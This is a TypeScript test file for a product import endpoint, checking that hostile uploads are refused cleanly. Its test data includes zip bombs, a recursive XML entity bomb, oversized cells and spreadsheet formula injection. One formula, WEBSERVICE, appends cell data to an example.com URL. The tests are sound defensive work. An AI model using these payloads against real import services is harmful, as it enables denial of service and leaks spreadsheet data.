import { deflateSync } from 'node:zlib'
import { count } from 'drizzle-orm'
import { writeXlsx } from 'hucre'
import { beforeAll, describe, expect, test } from 'vitest'
import { exportTypes } from '@banquet/contract/call/export'
import { importCalls } from '@banquet/contract/office/import'
import { addProductType, addUnit } from '../../../test/rows/goods.ts'
import { isDeep } from '../../../test/deep.ts'
import { runJobs } from '../../../test/jobs.ts'
import { serverForFile, type Reply } from '../../../test/server.ts'
import { zip } from '../../../test/http/zip.ts'
import { products } from '../../tables/catalogue/product.table.ts'
import { runImportJob } from './import.jobs.ts'
import { imports } from '../../tables/office/import.table.ts'

const server = await serverForFile({ connections: 4 })
const admin = await server.asAdmin()

beforeAll(async () => {
  await addUnit(server.ctx.db, '公斤')
  await addProductType(server.ctx.db, { number: 'T9', name: '熟食' })
})

const params = { noun: 'product' } as const
const csv = (text: string | Buffer) =>
  admin.send(importCalls.upload, {
    params,
    upload: { name: '資料.csv', type: 'text/csv', content: Buffer.from(text) },
  })
const xlsx = (content: Uint8Array) =>
  admin.send(importCalls.upload, { params, upload: { name: '資料.xlsx', type: exportTypes.xlsx, content } })

const head = ['商品編號', '商品名稱', '商品分類', '單位', '未稅單價', '最低訂購量', '備註']
type Cells = NonNullable<NonNullable<Parameters<typeof writeXlsx>[0]['sheets'][0]>['cells']>
async function book(rows: unknown[][], cells?: Cells) {
  const sheet = { name: '商品', rows: [head, ...rows] as never[], ...(cells && { cells }) }
  return writeXlsx({ sheets: [sheet] })
}

/** A workbook of one sheet with this content. */
const bookOf = (sheet: string | Buffer, strings = ''): Buffer => {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const relations = 'http://schemas.openxmlformats.org/package/2006/relationships'
  const relation = (id: string, type: string, target: string) =>
    `<Relationship Id="${id}" Type="${office}/${type}" Target="${target}"/>`
  const files = {
    '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    '_rels/.rels': `<Relationships xmlns="${relations}">${relation('r1', 'officeDocument', 'xl/workbook.xml')}</Relationships>`,
    'xl/workbook.xml': `<workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${relations}">${relation('r1', 'worksheet', 'worksheets/sheet1.xml')}${relation('r2', 'sharedStrings', 'sharedStrings.xml')}</Relationships>`,
    'xl/sharedStrings.xml': strings || `<sst xmlns="${main}"/>`,
    'xl/worksheets/sheet1.xml': sheet,
  }
  return zip(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, Buffer.from(text)])))
}
const inline = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`

/** Beyond what is unpacked, and beyond the rows that are read; in the exhaustive form far beyond. */
const [bombBytes, tooMany] = isDeep ? [400_000_000, 100_001] : [160_000_000, 10_001]

const kept = async () => (await server.ctx.db.select({ n: count() }).from(imports))[0]?.n

describe('a hostile file is refused with a reason and a place, and leaves nothing', () => {
  const tooLong = { code: 'import.cell-too-long', params: { row: 2, column: 1, most: 2000 } }
  const unreadable = { code: 'import.unreadable' }
  const files: Record<string, [() => Promise<Reply>, object]> = {
    'a zip bomb that says it is small': [
      () => xlsx(zip({ 'xl/worksheets/sheet1.xml': Buffer.alloc(bombBytes, 'x') }, 10)),
      unreadable,
    ],
    'a workbook with a bomb for a sheet': [() => xlsx(bookOf(Buffer.alloc(bombBytes, '<row/>'))), unreadable],
    'a cell of 10 MB': [() => csv(`商品編號,備註\n1,${'x'.repeat(10_000_000)}`), tooLong],
    'a cell of 10 MB in a workbook': [
      () => {
        const rows = `<row r="1">${inline('A1', '商品編號')}</row><row r="2">${inline('A2', 'x'.repeat(10_000_000))}</row>`
        return xlsx(bookOf(`<worksheet><sheetData>${rows}</sheetData></worksheet>`))
      },
      tooLong,
    ],
    'a file of more than 10 MB': [() => csv(Buffer.alloc(10_485_761, 'x')), { code: 'body.too-large' }],
    'too many rows': [
      () => csv(`商品編號\n${'1\n'.repeat(tooMany)}`),
      { code: 'import.too-many-rows', params: { most: 10_000 } },
    ],
    'too many rows in a workbook': [
      async () => xlsx(await book(Array.from({ length: tooMany }, (_, n) => [n]))),
      { code: 'import.too-many-rows', params: { most: 10_000 } },
    ],
    'a picture that is called a workbook': [
      () => xlsx(Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), deflateSync(Buffer.alloc(999))])),
      unreadable,
    ],
    'a workbook of the old binary form': [
      () => xlsx(Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(512)])),
      { code: 'import.old-excel' },
    ],
    'an archive without a sheet': [() => xlsx(zip({ 'word/document.xml': Buffer.from('<w/>') })), unreadable],
    'a program': [() => csv(Buffer.from('4d5a90000300000004000000ffff0000', 'hex')), unreadable],
    'a quote that nothing closes': [
      () => csv('商品編號,備註\nA1,x\n"A2,y\nA3,z\nA4,12"\n'),
      { code: 'import.quote', params: { row: 3 } },
    ],
    'nothing but a word': [() => csv('商品'), { code: 'import.empty' }],
  }

  test.each(Object.entries(files))('%s', async (_, [send, expected]) => {
    const before = await kept()
    const reply = await send()
    expect(reply.body).toMatchObject(expected)
    expect(reply.status).toBe(reply.code === 'body.too-large' ? 413 : 422)
    expect(await kept()).toBe(before)
    // The next one is read as usual.
    expect((await csv('商品編號\nA1\n')).status).toBe(201)
  })
})

test('a workbook with recursive entities is read without expanding them', async () => {
  const entities = Array.from({ length: 12 }, (_, n) =>
    n === 0 ? '<!ENTITY e0 "hahahahaha">' : `<!ENTITY e${n} "${`&e${n - 1};`.repeat(10)}">`,
  )
  const rows = `<row r="1">${inline('A1', '商品編號')}</row><row r="2">${inline('A2', '&e11;')}</row>`
  const sheet = `<!DOCTYPE x [${entities.join('')}]><worksheet><sheetData>${rows}</sheetData></worksheet>`
  expect(await xlsx(bookOf(sheet))).toMatchObject({ status: 201, body: { sample: [['&e11;']] } })
})

describe('a cell of the wrong type', () => {
  test('is reported at its place, and the line is not imported', async () => {
    const good = ['W-1', '好的', 'T9', '公斤', 10, 2, '']
    const rows = [
      good,
      ['W-2', '布林', 'T9', '公斤', true, 1, ''],
      ['W-3', '日期', 'T9', '公斤', new Date('2026-01-05T00:00:00Z'), 1, ''],
      ['W-4', '負數', 'T9', '公斤', -5, -1, ''],
      ['W-5', '天文數字', 'T9', '公斤', 1e300, 1e300, ''],
      ['W-6', '字', 'T9', '公斤', '十元', '一打', ''],
      ['W-7', '小數', 'T9', '公斤', 1.005, 1.5, ''],
      ['W-8', '零', 'T9', '公斤', 1, 0, ''],
      ['W-9', '長'.repeat(101), 'T9', '公斤', 1, 1, ''],
    ]
    const { id, mapping } = (await xlsx(await book(rows))).body
    const planned = (await admin.send(importCalls.preview, { params: { id }, body: { mapping } })).body
    expect(planned.counts).toEqual({ added: 1, edited: 0, skipped: 0, faulty: 8 })
    expect(planned.faults.map(({ row, field, code }) => `${row} ${field} ${code}`)).toEqual([
      '3 price number',
      '4 price number',
      '5 price number',
      '5 minBuyQty number',
      '6 price number',
      '6 minBuyQty number',
      '7 price number',
      '7 minBuyQty number',
      '8 minBuyQty number',
      '8 price pattern',
      '9 minBuyQty min',
      '10 name maxlength',
    ])
    const run = await admin.send(importCalls.run, { params: { id }, body: { mapping } })
    expect(run.code).toBe('import.faulty')
    expect(await server.ctx.db.select().from(products)).toEqual([])
  })
})

describe('a formula', () => {
  test('in a workbook counts as its result, and is a fault without one', async () => {
    const cells: Cells = new Map([
      ['1,1', { value: null, formula: 'WEBSERVICE("http://example.com/?"&A2)' }],
      ['1,4', { value: null, formula: '12*25', formulaResult: 300 }],
    ])
    const sheet = await xlsx(await book([['Q-1', null, 'T9', '公斤', null, 1, '']], cells))
    const { id, mapping, sample } = sheet.body
    expect(sample).toEqual([['Q-1', '#N/A', 'T9', '公斤', '300', '1', '']])
    const planned = await admin.send(importCalls.preview, { params: { id }, body: { mapping } })
    expect(planned.body).toMatchObject({ faults: [{ row: 2, field: 'name', code: 'excel-error' }] })
  })

  test('in a CSV file is plain text, and is exported as such', async () => {
    const text = `=HYPERLINK(""http://example.com/?""&A1)`
    const sheet = await csv(`${head.join(',')}\nQ-2,"${text}",T9,公斤,1,1,@SUM(1)\n`)
    const { id, mapping } = sheet.body
    await admin.send(importCalls.run, { params: { id }, body: { mapping } })
    await runJobs(server, { jobs: [runImportJob] })
    const [row] = await server.ctx.db.select().from(products)
    expect(row).toMatchObject({ name: text.replaceAll('""', '"'), remark: '@SUM(1)' })

    const faulty = await csv(`${head.join(',')}\nQ-3,"${text}",沒有,公斤,1,1,\n`)
    const { id: other } = faulty.body
    await admin.send(importCalls.preview, { params: { id: other }, body: { mapping } })
    const list = await admin.send(importCalls.faults, { params: { id: other } })
    expect(list.body).toContain(`"'${text}"`)
  })
})
